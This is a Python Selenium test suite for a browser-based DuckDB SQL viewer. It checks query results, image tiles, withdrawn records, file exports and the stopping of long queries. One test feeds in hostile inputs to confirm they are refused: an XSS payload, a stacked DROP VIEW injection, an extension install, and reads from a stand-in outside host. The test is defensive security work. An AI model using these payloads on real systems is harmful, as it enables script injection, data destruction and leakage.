"""The viewer's box of SQL: DuckDB in the browser, from the package, under the page's policy."""

from __future__ import annotations

import io
import json
from typing import Any
from urllib.parse import quote

import numpy as np
import pandas as pd
import pytest
from selenium import webdriver

import zml_dask as zml
from zml_dask.publish.viewer import ViewerServer, _selected_sql

from .browsing import opened, script, show, shows, status, tiles, wait
from .conftest import HOSTILE, Known

pytestmark = pytest.mark.browser

TABLE = (
    "[...document.querySelectorAll('#result tr')].map(r => [...r.cells].map(c => c.textContent))"
)


def ask(chromium: webdriver.Chrome, served: ViewerServer, question: str) -> str:
    """Follow the link of a question; return what is said of its answer."""
    show(chromium, f"{served.url}#sql={quote(question)}")
    wait(chromium, lambda b: script(b, "document.getElementById('sql').dataset.state") != "asking")
    return str(script(chromium, "document.getElementById('answer').textContent"))


def again(chromium: webdriver.Chrome, question: str) -> str:
    """Ask in the page that is open, whose engine has started."""
    chromium.execute_script(
        "document.getElementById('sql').dataset.state = '';"
        "document.getElementById('query').value = arguments[0];"
        "document.querySelector('#ask button').click()",
        question,
    )
    ended = "['answered', 'refused'].includes(document.getElementById('sql').dataset.state)"
    wait(chromium, lambda b: script(b, ended))
    return str(script(chromium, "document.getElementById('answer').textContent"))


def saved(chromium: webdriver.Chrome, form: str) -> bytes:
    """Press a button that saves the result; return the bytes of the file."""
    hold = """const done = arguments[1], make = URL.createObjectURL;
        URL.createObjectURL = (blob) => {
            URL.createObjectURL = make;
            blob.arrayBuffer().then((data) => done([...new Uint8Array(data)]));
            return make(blob);
        };
        document.querySelector(`[data-format=${arguments[0]}]`).click();"""
    return bytes(chromium.execute_async_script(hold, form))


def test_it_answers_as_the_package_does(
    known: Known, served: ViewerServer, chromium: webdriver.Chrome
) -> None:
    dataset = zml.open_dataset(known.path)
    show(chromium, served.url)
    loaded = "performance.getEntriesByType('resource').map(e => e.name.split('/').pop())"
    assert not {"sql.js", "sql-worker.js"} & set(script(chromium, loaded))
    questions = (
        "SELECT language, sum(n_images)::BIGINT AS n FROM files GROUP BY 1 ORDER BY n DESC, 1",
        "SELECT year(publication_date) AS year, count(*) AS n FROM records GROUP BY 1 ORDER BY 1",
        "SELECT record_id, stage, kind, message FROM failures ORDER BY ALL;",
        "SELECT path, title FROM files JOIN records USING (record_id) ORDER BY 1 -- to the end",
    )
    ask(chromium, served, questions[0])
    assert {"sql.js", "sql-worker.js"} <= set(script(chromium, loaded))
    for question in questions:
        expected = dataset.sql(question.rstrip(";")).df()
        said = again(chromium, question)
        assert said == f"{len(expected)} rows"
        if len(expected) > 100:
            assert len(script(chromium, TABLE)) == 101
            chromium.execute_script("document.querySelector('#result > button').click()")
            wait(chromium, lambda b: script(b, "document.querySelector('#result > button').hidden"))
        names, *rows = script(chromium, TABLE)
        assert names == list(expected.columns)
        for row, values in zip(rows, expected.itertuples(index=False), strict=True):
            for text, value in zip(row, values, strict=True):
                if isinstance(value, str | int):
                    assert text.replace("\\u{202e}", "\u202e") == str(value)
    address = chromium.current_url
    chromium.get("about:blank")
    show(chromium, address)
    assert script(chromium, "document.getElementById('query').value") == questions[-1]
    assert script(chromium, TABLE)[0] == ["path", "title"]


def test_what_names_images_files_or_records_is_shown_as_images(
    known: Known, served: ViewerServer, chromium: webdriver.Chrome
) -> None:
    files = zml.open_dataset(known.path).files
    python = files[(files.language == "Python") & (files.n_images > 0)]
    python = python.sort_values(["n_images", "file_id"], ascending=[False, True])
    expected = [r.first_image + i for r in python.itertuples() for i in range(r.n_images)]
    where = "WHERE language = 'Python' ORDER BY n_images DESC, file_id"
    ask(chromium, served, f"SELECT file_id, path FROM files {where}")
    shows(chromium, f"{len(expected):,} images")
    assert tiles(chromium) == expected[:120]
    again(
        chromium,
        "SELECT record_id, count(*) AS n FROM files WHERE record_id IN (103, 112) GROUP BY 1",
    )
    of_record = int(files[files.record_id == 103].n_images.sum())
    shows(chromium, f"{of_record} images")
    again(chromium, "SELECT image FROM (VALUES (7), (3), (-1), (1000000)) given (image)")
    shows(chromium, "2 images")
    assert tiles(chromium) == [7, 3]
    chromium.execute_script("document.querySelector('.tile').click()")
    opened(chromium)
    assert "sql=" in chromium.current_url
    assert chromium.current_url.endswith("image=7")
    again(chromium, _selected_sql(np.array([5, 6, 7, 20])))
    shows(chromium, "4 images")
    assert tiles(chromium) == [5, 6, 7, 20]
    again(chromium, "SELECT count(*) FROM files")
    shows(chromium, "the result has no column image")
    again(
        chromium,
        "SELECT 0 AS file_id FROM range(3) UNION ALL SELECT i FROM range(10000) t(i) WHERE i > 900",
    )
    shows(chromium, f"{files.n_images.iloc[0]} images")


def test_withdrawn_records_are_not_in_any_answer(
    known: Known, served: ViewerServer, chromium: webdriver.Chrome
) -> None:
    assert ask(chromium, served, "SELECT * FROM files WHERE record_id = 112") == "0 rows"
    total = sum(part.rows for part in zml.open_dataset(known.path).info.tables["files"])
    again(chromium, f"SELECT i AS file_id FROM range({total}) t(i)")
    shown = int(zml.open_dataset(known.path).files.n_images.sum())
    chromium.execute_script("document.getElementById('next').click()")
    wait(chromium, lambda b: "page 2 of" in status(b))
    chromium.execute_script("document.getElementById('next').click()")
    shows(chromium, f"{shown} images")


def test_a_result_is_saved_as_csv_json_and_parquet(
    known: Known, served: ViewerServer, chromium: webdriver.Chrome
) -> None:
    question = (
        "SELECT file_id, path, size, publication_date, keywords FROM files "
        "JOIN records USING (record_id) WHERE record_id = 101 ORDER BY file_id"
    )
    expected = zml.open_dataset(known.path).sql(question).df()
    ask(chromium, served, question)
    table = pd.read_parquet(io.BytesIO(saved(chromium, "parquet")))
    assert table["path"].tolist() == expected["path"].tolist()
    assert [list(words) for words in table["keywords"]] == [["astronomy"]] * len(expected)
    csv = pd.read_csv(io.BytesIO(saved(chromium, "csv")))
    assert csv["path"].tolist() == expected["path"].tolist()
    assert csv["size"].tolist() == expected["size"].tolist()
    rows = json.loads(saved(chromium, "json"))
    assert [row["path"] for row in rows] == expected["path"].tolist()
    assert rows[0]["publication_date"] == str(expected["publication_date"].iloc[0])[:10]
    assert set(HOSTILE) <= set(table["path"])


def test_hostile_questions_and_answers(served: ViewerServer, chromium: webdriver.Chrome) -> None:
    hostile = "<img src=x onerror=window.hacked=1>"
    ask(chromium, served, f"SELECT '{hostile}' AS \"{hostile}\", 1 AS a, 2 AS a")
    assert script(chromium, TABLE)[0][0] == script(chromium, TABLE)[1][0] == hostile
    assert script(chromium, TABLE)[1][1:] == ["1", "2"]
    refused = {
        "SELECT * FROM 'https://elsewhere.example/x.parquet'": "elsewhere.example",
        "SELECT * FROM read_csv_auto('http://elsewhere.example/?secret')": "elsewhere.example",
        "INSTALL httpfs": "syntax error",
        "SELECT 1); DROP VIEW files; (SELECT 1": "multiple statements",
        "SELECT nonsense FROM files": "nonsense",
        f"SELECT {hostile}": "syntax error",
    }
    for question, said in refused.items():
        assert said in again(chromium, question), question
    assert again(chromium, "SELECT count(*) FROM files") == "1 row"
    assert script(chromium, "window.hacked") is None
    assert script(chromium, "document.querySelectorAll('#result img, #answer img').length") == 0
    log: list[Any] = chromium.get_log("browser")  # type: ignore[no-untyped-call]
    assert any("Content Security Policy" in entry["message"] for entry in log)


def test_a_question_that_runs_on_is_stopped(
    served: ViewerServer, chromium: webdriver.Chrome
) -> None:
    ask(chromium, served, "SELECT 1 AS one")
    chromium.execute_script(
        "document.getElementById('query').value = arguments[0];"
        "document.querySelector('#ask button').click()",
        "SELECT sum(a.i * b.i) FROM range(10000000) a(i), range(10000000) b(i)",
    )
    wait(chromium, lambda b: not script(b, "document.getElementById('halt').hidden"))
    chromium.execute_script("document.getElementById('halt').click()")
    wait(
        chromium, lambda b: script(b, "document.getElementById('answer').textContent") == "stopped"
    )
    assert again(chromium, "SELECT 2 AS two") == "1 row"


def test_files_by_status_are_a_question(
    known: Known, served: ViewerServer, chromium: webdriver.Chrome
) -> None:
    show(chromium, served.url)
    chromium.execute_script("document.querySelector('#statistics > summary').click()")
    bars = "[...document.querySelectorAll('#bars button')]"
    bar = f"{bars}.find(b => b.textContent.startsWith('binary'))"
    wait(chromium, lambda b: script(b, bar))
    chromium.execute_script(f"{bar}.click()")
    files = zml.open_dataset(known.path).sql("SELECT path FROM files WHERE status = 'binary'")
    answer = "document.getElementById('answer').textContent"
    wait(chromium, lambda b: script(b, answer) == f"{len(files)} rows")
